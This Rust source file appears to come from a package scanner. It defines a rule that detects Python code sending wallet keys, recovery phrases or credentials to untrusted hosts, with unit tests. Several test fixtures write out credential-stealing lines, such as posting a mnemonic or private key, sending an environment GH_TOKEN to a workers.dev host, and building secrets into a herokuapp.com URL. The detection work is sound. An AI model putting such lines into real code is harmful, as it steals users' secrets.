use super::vocab::{self, SecretName};
use crate::declare_rule;
use crate::inspect::python::Call;
use crate::inspect::rules::{Rule, RuleMeta};
use crate::inspect::{Analysis, Finding, Severity, Stage};

declare_rule! {
    /// ## What it does
    /// Follows what a network call sends by the names of the values it is
    /// built from (variables, parameters, attributes, dict keys, one local
    /// assignment deep). Flags a wallet private key or recovery phrase sent
    /// anywhere, and a password, token or API secret sent to a host no
    /// service of the project's own would live on (free hosting and
    /// serverless platforms, throw-away domains, webhooks, tunnels, paste
    /// sites, raw IP addresses).
    ///
    /// ## Why is this bad?
    /// Wallet drainers and credential stealers hide in ordinary-looking
    /// library functions (`derive_address(mnemonic)`, `Client(access_key, secret)`)
    /// that quietly post what they were given to the attacker. Nothing is read
    /// from disk, so only the data's name gives them away.
    ///
    /// ## Example
    /// ```python
    /// def to_address(mnemonic):                                     # Error
    ///     requests.post(API, json={"m": mnemonic})
    /// requests.get(f"https://x.herokuapp.com/{user}/{password}")     # Error
    /// requests.post("https://api.example.com/login", json={"password": pw})  # No error
    /// ```
    ///
    /// ## False positives
    /// A client that logs in to its own service hosted on a free platform.
    /// Credentials count only when the send itself names the untrusted host,
    /// and a bot token in the token slot of its own bot URL is its owner's.
    /// Wallet code sends signed transactions, not keys, so it stays quiet.
    SecretUpload, id = "secret-upload", severity = High,
    summary = "sends a private key, recovery phrase or credential to the network"
}

impl Rule for SecretUpload {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, analysis: &Analysis, out: &mut Vec<Finding>) {
        for unit in analysis.units() {
            let code = unit.code;
            let mut best: Option<(Severity, &Call, String)> = None;
            for call in code
                .calls
                .iter()
                .filter(|c| !c.arg_names.is_empty() && vocab::is_network(&c.name))
            {
                if call.stage == Stage::Auxiliary {
                    continue;
                }
                let named = |grade: SecretName| {
                    call.arg_names
                        .iter()
                        .find(|n| vocab::secret_name(n) == Some(grade))
                        .map(String::as_str)
                };
                let host = vocab::untrusted_destination(code, call);
                // A credential goes to an untrusted host only when the call itself names it:
                // a URL met elsewhere in the function (`if secret.startswith("https://hooks…")`)
                // may be the very secret being used, and a bot API URL whose token is the
                // unknown part (`…/bot{}/getMe`) is a client using its own token (issue 11).
                let own_call_host = call
                    .arg_strs
                    .iter()
                    .any(|a| vocab::untrusted_host(a).is_some() && !(a.contains("/bot{}") || a.starts_with("{}")));
                let credential_host = host.filter(|_| own_call_host);
                let message = match (named(SecretName::Wallet), named(SecretName::Credential), host) {
                    (Some(key), _, host) => format!(
                        "sends `{key}` (a wallet key or recovery phrase) with {}(){} {}",
                        call.name,
                        host.map(|h| format!(" to {h}")).unwrap_or_default(),
                        call.stage.describe()
                    ),
                    (None, Some(secret), Some(host)) if credential_host.is_some() => format!(
                        "sends `{secret}` with {}() to {host} {}",
                        call.name,
                        call.stage.describe()
                    ),
                    _ => continue,
                };
                let severity = match call.stage {
                    Stage::Install | Stage::Import => Severity::Critical,
                    _ => Severity::High,
                };
                if best.as_ref().is_none_or(|(s, _, _)| severity > *s) {
                    best = Some((severity, call, message));
                }
            }
            if let Some((severity, call, message)) = best {
                out.push(unit.finding(Self::META.id, severity, call.line, message).at(call.stage));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::archive::Kind;
    use crate::inspect::testing::check;

    fn lib(src: &str) -> Vec<Finding> {
        check(&SecretUpload, Kind::Wheel, &[("pkg/core.py", src)])
    }

    #[test]
    fn fires_on() {
        let f = lib(
            "import requests\ndef address(mnemonic_phrase):\n    requests.post(API, json={'m': mnemonic_phrase})\n",
        );
        assert_eq!((f.len(), f[0].severity), (1, Severity::High), "{f:?}");
        assert!(f[0].message.contains("mnemonic_phrase"));
        // Through a local dict.
        let f = lib("import requests\ndef sign(tx, private_key):\n    data = {'tx': tx, 'k': private_key}\n    return requests.post(RPC, json=data)\n");
        assert_eq!(f.len(), 1, "{f:?}");
        // A credential to a free hosting platform, built into the URL.
        let f = lib("import requests\nclass C:\n    def check(self):\n        requests.get('https://x.herokuapp.com/h/' + self.access + '/' + self.secret)\n");
        assert_eq!(f.len(), 1, "{f:?}");
        assert!(f[0].message.contains("free hosting"), "{}", f[0].message);
        // At import time: critical.
        let f = lib("import requests, os\ntoken = os.getenv('GH_TOKEN')\nrequests.post('https://a.b.workers.dev/', data={'t': token})\n");
        assert_eq!((f.len(), f[0].severity), (1, Severity::Critical), "{f:?}");
    }

    #[test]
    fn quiet_on() {
        // Logging in to the service the client is for.
        assert!(lib("import requests\ndef login(user, password):\n    return requests.post('https://api.example.com/login', json={'user': user, 'password': password})\n").is_empty());
        // Sending a signed transaction or a public key.
        assert!(lib("import requests\ndef send(signed_tx, public_key):\n    return requests.post(RPC, json={'tx': signed_tx, 'pub': public_key})\n").is_empty());
        // Issue 11: a secret scanner verifying a Telegram token and a Slack webhook it found.
        assert!(lib("import requests\ndef verify(secret):\n    return requests.get('https://api.telegram.org/bot{}/getMe'.format(secret))\n").is_empty());
        assert!(lib("import requests\ndef verify(secret):\n    if secret.startswith('https://hooks.slack.com/services/T'):\n        return requests.post(secret, json={'text': ''})\n").is_empty());
        // Issue 11: an Atlas API key pair is a service credential, not a wallet key.
        assert!(lib("import requests\ndef auth(atlas_public_key, atlas_private_key):\n    return requests.post('https://cloud.mongodb.com/api', json={'k': atlas_private_key})\n").is_empty());
        // A token *URL* or token *type* is not the token.
        assert!(lib(
            "import requests\ndef f(token_url):\n    return requests.get('https://x.herokuapp.com/' + token_url)\n"
        )
        .is_empty());
    }
}
